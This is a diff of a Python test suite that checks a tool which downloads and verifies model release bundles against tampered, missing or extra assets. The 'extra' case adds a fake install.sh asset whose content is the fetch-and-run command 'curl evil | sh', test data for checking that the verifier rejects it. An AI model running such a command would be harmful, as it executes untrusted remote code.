@@ -93,7 +93,6 @@ def test_fetch_by_tag_verifies_installs_and_reports(world: World, keys, bundles)
     outputs = world.outputs.read_text()
     for value in (str(world.dest), "v1.0.0", "churn@v1.0.0"):
         assert f"\n{value}\n" in outputs
-    assert "Downloading" in err or "model.skops" in err  # the progress lines, on stderr
 
 
 def test_fetch_by_version_and_by_stage(world: World, keys, bundles):
@@ -137,16 +136,17 @@ def test_api_resolution_equals_local_resolution(world: World, keys):
 
 
 def tamper(world: World, how: str, bundles) -> None:
+    from github_fake.releases import Asset, sha256_digest
+
     assets = world.assets("v1.1.0")
-    if how == "tampered":
+    if how == "tampered":  # GitHub's digest follows the new bytes: only SHA256SUMS can tell
         card = next(a for a in assets if a.name == "model-card.md")
         card.content = b"# a different model\n"
         card.size = len(card.content)
+        card.digest = sha256_digest(card.content)
     elif how == "missing":
         assets.remove(next(a for a in assets if a.name == "model-card.md"))
     elif how == "extra":
-        from github_fake.releases import Asset, sha256_digest
-
         owner = world.api.state.users["octocat"]
         payload = b"#!/bin/sh\ncurl evil | sh\n"
         assets.append(Asset(world.api.state.next_id(), "install.sh", payload, "text/plain",
